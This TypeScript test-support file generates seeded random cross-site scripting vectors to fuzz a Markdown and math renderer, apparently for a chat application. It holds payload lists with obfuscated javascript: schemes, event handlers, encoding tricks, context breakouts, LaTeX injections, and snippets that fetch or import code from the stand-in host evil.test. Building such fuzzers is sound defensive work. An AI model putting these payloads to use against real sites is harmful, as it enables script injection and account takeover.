import { createRandom } from '../../../support/random.ts'

/** What a script of an attacker would do: the page's test looks out for it. */
const SCRIPTS = [
  'alert(1)',
  'window.hit=1',
  "fetch('//evil.test/x')",
  'location=`//evil.test`',
  'import(`//evil.test/x.js`)',
]
const HANDLERS =
  'onerror onload onclick onfocus onmouseover onpointerenter onanimationstart ontransitionend ontoggle onbegin onstart onwheel onscroll onbeforetoggle onauxclick onpaste onhashchange onmessage'.split(
    ' ',
  )
const TAGS =
  'script img svg iframe object embed video audio source body details input select textarea button form math a marquee style link base meta template noscript title frameset table td isindex keygen xmp plaintext image animate set foreignObject use portal dialog x-y'.split(
    ' ',
  )
const URL_ATTRIBUTES =
  'href src srcdoc action formaction data xlink:href poster background srcset ping cite manifest'.split(' ')
const SCHEMES = [
  ...[
    'javascript:',
    'JaVaScRiPt:',
    'java\tscript:',
    'java\nscript:',
    'java\rscript:',
    ' javascript:',
    '\u0001javascript:',
  ],
  ...[
    '\u00A0javascript:',
    '\u3000javascript:',
    '\uFEFFjavascript:',
    'javascript&colon;',
    '&#106;avascript:',
    '&#x6A;avascript:',
  ],
  ...['java&Tab;script:', 'java&NewLine;script:', '%6Aavascript:', 'javascript%3A', '\\x6Aavascript:', 'java\0script:'],
  ...[
    'java\u200Bscript:',
    'java\u00ADscript:',
    'ｊavascript:',
    'ja\u0131vascript:',
    'vbscript:',
    'livescript:',
    'mocha:',
    'jar:',
  ],
  ...[
    'data:text/html,',
    'data:text/html;base64,',
    'data:image/svg+xml,',
    'DATA:text/html,',
    'blob:',
    'filesystem:',
    'file:///',
  ],
  ...[
    'view-source:',
    'feed:javascript:',
    'about:blank#',
    'ms-msdt:/',
    'smb://evil.test/',
    'intent://',
    'x-javascript:',
    'mhtml:',
  ],
  ...[
    '//evil.test/',
    '\\\\evil.test\\',
    '/\\evil.test/',
    '/\t/evil.test/',
    'http:evil.test',
    'https:\\\\evil.test',
    '\u2028javascript:',
  ],
]
const ENDS = ['>', '/>', ' >', '', '//', '\n>', '<', '\0>', ' x=">', "'>", '`>', '-->', ']]>', '</']
const BREAKS = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  '" ',
  '</a>',
  '</p>',
  '</code></pre>',
  '--><',
  ']]><',
  '</title>',
  '</style>',
  '</textarea>',
  '&quot;>',
  '&#34;>',
]
const SEPARATORS = [' ', '/', '\n', '\t', '\f', '\v', '\r\n', '\u00A0', '/**/', '%0A', '\0']

/** Ways in which Markdown takes up a text: `$` stands for it. */
const WRAPPERS = [
  ...[
    '$',
    '**$**',
    '*$*',
    '***$***',
    '~~$~~',
    '`$`',
    '``$``',
    '> $',
    '* $',
    '1. $',
    '# $',
    '    $',
    '```\n$\n```',
    '~~~$\nx\n~~~',
  ],
  ...[
    '```quote\n$\n```',
    '```spoiler $\n$\n```',
    '```spoiler "$\nx\n```',
    '```$\nx\n```',
    '```{.$}\nx\n```',
    '```js\n$\n```',
    '```html\n$\n```',
  ],
  ...[
    '[$](http://a.test)',
    '[a]($)',
    '[a](http://a.test/$)',
    '[a](http://a.test "$")',
    "[a](http://a.test '$')",
    '![$](http://a.test/a.png)',
  ],
  ...[
    '![a]($)',
    '[a]: $\n\n[a]',
    '[a]($ "b")',
    '<$>',
    '<http://a.test/$>',
    'http://a.test/$',
    'http://a.test/$.png',
    'http://$',
    '$.com',
    'a@$.com',
  ],
  ...[
    '@**$**',
    '@_**$**',
    '@**$|1**',
    '@*$*',
    '@_*$*',
    '#**$**',
    '#**$>$**',
    '#**a>$@1**',
    ':$:',
    '<time:$>',
    '<time:2024-01-01$>',
    '&$;',
    '&#$;',
  ],
  ...[
    'a|b\n-|-\n$|$',
    '$|$\n:-:|-:\n1|2',
    '/user_uploads/1/$.png',
    '[a](/user_uploads/$.png)',
    '[$](/user_uploads/1/a.mp4)',
    '[$](/user_uploads/1/a.mp3)',
  ],
  ...[
    'https://www.youtube.com/watch?v=$',
    'http://a.test/a.mp4?$',
    'tel:$',
    'bitcoin:$',
    'issue-$',
    '$$',
    'https://a.test/a.png#$',
    '\\$',
    '[[$](b)](c)',
  ],
]

/** Formulas are dear to make: a few are enough. */
const FORMULAS = [
  '\\href{javascript:alert(1)}{x}',
  '\\url{javascript:alert(1)}',
  '\\includegraphics{//evil.test/x.png}',
  '\\htmlClass{x}{y}',
  '\\htmlData{a=b}{c}',
  '\\htmlStyle{background:url(//evil.test/x)}{y}',
  '\\htmlId{x}{y}',
  '\\text{<img src=x onerror=alert(1)>}',
  '\\unicode{<script>}',
  '\\color{"onclick=alert(1)}x',
  '\\color{red;background:url(//evil.test)}x',
  '<script>alert(1)</script>',
  '\\def\\a{\\a\\a}\\a',
  '\\rule{9999em}{9999em}',
  '\\class{x}{y}',
  '\\require{html}',
  '\\char"3C',
  '\\begin{a"onclick=alert(1)}',
  '{'.repeat(500),
]

/** @param seed another one, other combinations */
export function createVectors(count: number, seed: number): string[] {
  const random = createRandom(seed)
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)] as T
  const encoded = (text: string): string => pick(ENCODINGS)(text)
  const url = () =>
    pick(SCHEMES) + pick([pick(SCRIPTS), encoded(pick(SCRIPTS)), encode64(`<script>${pick(SCRIPTS)}</script>`)])
  const quoted = (value: string) => pick([`"${value}"`, `'${value}'`, value, `\`${value}\``, `"${encoded(value)}"`])
  const attribute = () =>
    pick([
      () => `${pick(HANDLERS)}=${quoted(pick(SCRIPTS))}`,
      () => `${pick(URL_ATTRIBUTES)}=${quoted(url())}`,
      () => `style=${quoted('background:url(//evil.test/x)')}`,
      () =>
        pick([
          'autofocus',
          'id=x',
          'name=body',
          'tabindex=0',
          'class=emoji',
          'is=x-y',
          'http-equiv=refresh content=0;//evil.test',
        ]),
    ])()
  const tag = () => {
    const name = pick([pick(TAGS), pick(TAGS).toUpperCase()])
    const attributes = Array.from({ length: Math.floor(random() * 4) }, () => pick(SEPARATORS) + attribute()).join('')
    return `<${name}${attributes}${pick(ENDS)}${pick(['', `${pick(SCRIPTS)}</${name}>`])}`
  }
  const payload = () =>
    pick([
      tag,
      () => encoded(tag()),
      url,
      () => pick(BREAKS) + tag(),
      () => `${pick(BREAKS)} ${attribute()} `,
      () => tag() + tag(),
    ])()
  const wrap = (text: string) => pick(WRAPPERS).replaceAll('$', () => text)
  const formulas = FORMULAS.flatMap((formula) => [`$$${formula}$$`, `\`\`\`math\n${formula}\n\`\`\``])
  return [
    ...formulas,
    ...Array.from({ length: count }, () =>
      pick([wrap(payload()), wrap(wrap(payload())), `${wrap(payload())}\n${wrap(payload())}`]),
    ),
  ]
}

const encode64 = (text: string) => Buffer.from(text).toString('base64')
const each = (text: string, write: (code: number) => string) =>
  [...text].map((one) => write(one.codePointAt(0) ?? 0)).join('')

const ENCODINGS: readonly ((text: string) => string)[] = [
  (text) => each(text, (code) => `&#${code};`),
  (text) => each(text, (code) => `&#x${code.toString(16)}`),
  (text) => each(text, (code) => `&#${String(code).padStart(7, '0')};`),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '\u003C\0').replaceAll('"', '\\"'),
  encodeURIComponent,
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  (text) => each(text, (code) => `\\u${code.toString(16).padStart(4, '0')}`),
  (text) => text.replaceAll('<', '%3C').replaceAll('script', 'scr<script>ipt'),
  (text) => text.replaceAll('<', '\u00BC').replaceAll('>', '\u00BE'),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
]
